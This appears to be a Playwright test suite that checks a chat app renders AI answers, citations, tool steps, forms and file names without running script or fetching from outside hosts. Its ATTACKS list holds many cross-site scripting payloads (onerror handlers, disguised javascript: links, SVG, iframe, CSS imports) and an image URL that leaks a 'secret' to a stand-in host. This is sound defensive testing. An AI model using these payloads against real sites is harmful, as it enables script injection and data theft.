"""An answer is text by a stranger: nothing of it runs, and nothing is fetched on its behalf."""

import json

import pytest
from playwright.sync_api import expect

from app.i18n.en import EN

from .conftest import Visit, foreign_requests
from .harmless import expect_harmless
from .page import ChatPage
from .script import End, Say, Send, form, node, picture, thought
from .server import Server
from .upstream import Upstream, refusal

AFAR = "http://198.51.100.7"  # an address of documentation, which nobody has
RUN = "window.ran = 1"

ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "image with onerror": f'<img src="x" onerror="{RUN}">',
    "remote image": f'<img src="{AFAR}/pixel.png">',
    "javascript link": f"[click]({'javascript:' + RUN})",
    "javascript link in disguise": f"[click](java&#x73;cript:{RUN.replace(' ', '')}) [more](\tjavascript:{RUN[:10]})",
    "data link": f"[click](data:text/html,<script>{RUN}</script>)",
    "autolink": f"<javascript:{RUN.replace(' ', '')}>",
    "raw link": f'<a href="javascript:{RUN}" onclick="{RUN}">click</a>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><image href="{AFAR}/a.svg"/></svg>',
    "iframe": f'<iframe src="{AFAR}/" srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "details": f'<details open ontoggle="{RUN}"><summary>More</summary>inside</details>',
    "style": f'<style>@import "{AFAR}/a.css"; body {{ background: url({AFAR}/b.png) }}</style>',
    "style attribute": f'<p style="background: url({AFAR}/c.png); position: fixed; inset: 0">cover</p>',
    "form": f'<form action="{AFAR}/"><input name="password" autofocus onfocus="{RUN}"><button>Go</button></form>',
    "media": f'<video src="{AFAR}/v.mp4" autoplay onerror="{RUN}"></video><audio src="{AFAR}/a.mp3"></audio>',
    "object": f'<object data="{AFAR}/o"></object><embed src="{AFAR}/e">',
    "base and meta": f'<base href="{AFAR}/"><meta http-equiv="refresh" content="0;url={AFAR}/">',
    "link": f'<link rel="stylesheet" href="{AFAR}/l.css"><link rel="prefetch" href="{AFAR}/p">',
    "mathematics": f"$$\\href{{javascript:{RUN.replace(' ', '')}}}{{x}} \\includegraphics{{{AFAR}/m.png}}$$",
    "diagram": f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"] --> B; click A href "javascript:{RUN}"\n```',
    "code": f"```html\n<img src=x onerror={RUN}>\n```",
    "footnote": f'Text[^1]\n\n[^1]: <img src=x onerror="{RUN}"> [x](javascript:{RUN})',
    "reference": f"[click][1]\n\n[1]: javascript:{RUN}",
}


@pytest.fixture(params=ATTACKS)
def attack(request: pytest.FixtureRequest) -> str:
    return ATTACKS[request.param]


def test_nothing_in_an_answer_runs_or_is_fetched(
    chat: ChatPage, upstream: Upstream, fetched: list[str], attack: str
) -> None:
    # One character at a time, so that it is rendered while it is incomplete; and once more in one piece.
    upstream.script = [*map(Say, attack), Say(f"\n\nend\n\n{attack}"), End()]
    chat.ask_and_wait("Attack.")
    expect(chat.answer).to_contain_text("end")
    expect_harmless(chat, fetched)
    chat.reload()
    expect(chat.answer).to_contain_text("end")
    expect_harmless(chat, fetched)


def test_a_remote_image_is_a_link_that_names_its_host(chat: ChatPage, upstream: Upstream, fetched: list[str]) -> None:
    upstream.script = [Say(f"Look: ![A chart]({AFAR}/chart.png?secret=said) and ![]({AFAR}/b.png)"), End()]
    chat.ask_and_wait("Show me.")
    chart = chat.answer.get_by_role("link", name="A chart")
    expect(chart).to_have_attribute("href", f"{AFAR}/chart.png?secret=said")
    expect(chart).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(chat.answer.get_by_role("link", name=EN.image_blocked.format(host="198.51.100.7"))).to_be_visible()
    assert chat.answer.locator("img").count() == 0
    assert fetched == []


def test_links_open_elsewhere_and_tell_nothing(chat: ChatPage, upstream: Upstream) -> None:
    upstream.script = [
        Say("[A page](https://example.org/a), [mail](mailto:a@example.org), https://example.org/b"),
        End(),
    ]
    chat.ask_and_wait("Links?")
    for name, address in (("A page", "https://example.org/a"), ("https://example.org/b", "https://example.org/b")):
        link = chat.answer.get_by_role("link", name=name)
        expect(link).to_have_attribute("href", address)
        expect(link).to_have_attribute("target", "_blank")
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(chat.answer.get_by_role("link", name="mail", exact=True)).to_have_attribute("href", "mailto:a@example.org")


def test_nothing_that_the_app_says_of_itself_runs(
    chat: ChatPage, upstream: Upstream, fetched: list[str], visit: Visit, parley: Server
) -> None:
    markup = f'<img src="{AFAR}/x.png" onerror="{RUN}">'
    upstream.suggested = [f"Next {markup}"]
    source = {"position": 1, "document_name": f"Doc {markup}", "content": f"Passage {markup}", "score": 0.5}
    upstream.script = [Say("Cited."), End({"retriever_resources": [source]})]
    chat.ask_and_wait(f"Question {markup}")
    expect(chat.questions).to_have_text([f"Question {markup}"])
    expect(chat.suggestions).to_have_text([f"Next {markup}"])
    expect(chat.sources).to_contain_text(f"Doc {markup}")
    chat.sources.get_by_role("button").click()
    expect(chat.passage.get_by_text(f"Passage {markup}")).to_be_visible()
    upstream.refusals["chat-messages"] = refusal("invalid_param", f"Wrong {markup}", 400)
    chat.ask("Again.")
    expect(chat.answer).to_contain_text(f"Wrong {markup}")
    expect(chat.conversations.first).to_contain_text("Question <img")
    assert chat.page.locator("img").count() == 0
    assert chat.page.evaluate("window.ran") is None
    assert fetched == []


def test_nothing_is_fetched_from_elsewhere_in_a_whole_visit(
    chat: ChatPage, upstream: Upstream, fetched: list[str]
) -> None:
    rich = "# Title\n\n**bold** `code`\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$$x^2$$\n"
    upstream.script = [Say(rich), End()]
    chat.reload()
    chat.ask_and_wait("Everything.")
    expect(chat.answer.get_by_role("heading", name="Title")).to_be_visible()
    expect(chat.answer.get_by_role("table")).to_be_visible()
    chat.reload()
    expect(chat.answer.get_by_role("table")).to_be_visible()
    assert fetched == []


def test_an_answer_is_shown_as_markdown(chat: ChatPage, upstream: Upstream) -> None:
    text = "## Two things\n\n1. **bold**\n2. *slanted*\n\n> quoted\n\n```python\nprint('<b>')\n```\n\n~~gone~~\n"
    upstream.script = [*map(Say, text), End()]
    chat.ask_and_wait("Markdown?")
    expect(chat.answer.get_by_role("heading", name="Two things")).to_be_visible()
    expect(chat.answer.get_by_role("listitem")).to_have_text(["bold", "slanted"])
    expect(chat.answer.get_by_role("blockquote")).to_have_text("quoted")
    expect(chat.answer.get_by_role("code")).to_contain_text("print('<b>')")
    assert json.dumps(text)[1:-1].encode() not in chat.answer.inner_html().encode()


def test_nothing_in_the_steps_of_an_answer_runs_or_is_fetched(app: Upstream, member: Server, visit: Visit) -> None:
    markup = f'<img src="{AFAR}/x.png" onerror="{RUN}">[click](javascript:{RUN.replace(" ", "")})'
    chat = visit(member).open()
    fetched = foreign_requests(chat)
    app.script = [
        *thought(tool=f"tool {markup}", given={"word": markup}, observed=f"found {markup}"),
        *thought(tool="look_up", position=2, observed="Done.", labels={"look_up": {"en_US": f"label {markup}"}}),
        *node(f"node {markup}"),
        Send({"event": "reasoning_chunk", "data": {"reasoning": f"mused {markup}", "node_id": "n", "is_final": True}}),
        Say(f"<details><summary>headed {markup}</summary>thought {markup}</details>That is it."),
        End(),
    ]
    chat.ask_and_wait("How?")
    for _ in ("live", "stored"):
        steps = chat.open_steps()
        expect(steps.filter(has_text=f"label {markup}")).to_have_count(1)
        expect(steps.filter(has_text=f"node {markup}")).to_have_count(1)
        for step in steps.locator("summary").all():
            step.click()
        expect(steps.filter(has_text=f"found {markup}")).to_have_count(1)
        expect(steps.filter(has_text="mused")).to_contain_text("<img")
        expect(steps.filter(has_text="thought <img")).to_have_count(1)
        expect_harmless(chat, fetched)
        chat.reload()


def test_nothing_in_a_form_in_mid_answer_runs_or_is_fetched(
    chat: ChatPage, upstream: Upstream, fetched: list[str]
) -> None:
    markup = f'<img src="{AFAR}/x.png" onerror="{RUN}">[click](javascript:{RUN.replace(" ", "")})'
    field = {"type": "paragraph", "output_variable_name": "why"}
    choice = {"type": "select", "output_variable_name": "way", "option_source": {"value": [f"option {markup}"]}}
    upstream.script = form(
        f"content {markup} {{{{#$output.why#}}}} <script>{RUN}</script>",
        (f"Button {markup}",),
        (field, choice),
        node_title=f"Title {markup}",
        defaults={"why": f"default {markup}"},
    )
    chat.ask_and_wait("May I?")
    asked = chat.form(f"Title {markup}")
    expect(asked).to_contain_text("content <img")
    expect(asked.get_by_label("Why")).to_have_value(f"default {markup}")
    expect(asked.get_by_role("button")).to_have_text(f"Button {markup}")
    expect(asked.get_by_role("option").last).to_have_text(f"option {markup}")
    assert asked.locator("img, script").count() == 0
    links = asked.locator("a[href]").evaluate_all("all => all.map(link => link.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:", "tel:"}, links
    for link in asked.get_by_text("click", exact=True).all():
        link.click()
    assert chat.page.evaluate("window.ran") is None
    assert fetched == []


def test_nothing_in_the_name_of_a_file_or_of_an_icon_runs_or_is_fetched(
    app: Upstream, full: Server, visit: Visit
) -> None:
    markup = f'<img src=x onerror="{RUN}">'
    chat = visit(full).open()
    fetched = foreign_requests(chat)
    row = {"event": "message_file", "belongs_to": "assistant", "filename": markup}
    app.script = [
        Send({**row, "id": "f", "type": "document", "url": f"{app.origin}/files/tools/f.pdf?sign=x"}),
        Send({**row, "id": "g", "type": "image", "url": f"{app.origin}/files/tools/g.png?sign=x"}),
        Say("Two files."),
        End(),
    ]
    chat.page.route("**/files/*", lambda route: route.fulfill(body=picture(), content_type="image/png"))
    chat.ask_and_wait("What?")
    expect(chat.answer_files()).to_have_count(2)
    expect(chat.answer_files().first).to_contain_text("<img")
    chat.answer_files().nth(1).get_by_role("link").click()
    expect(chat.preview).to_contain_text("<img")
    assert chat.page.locator('img[src="x"]').count() == 0
    assert chat.page.evaluate("window.ran") is None
    assert fetched == []
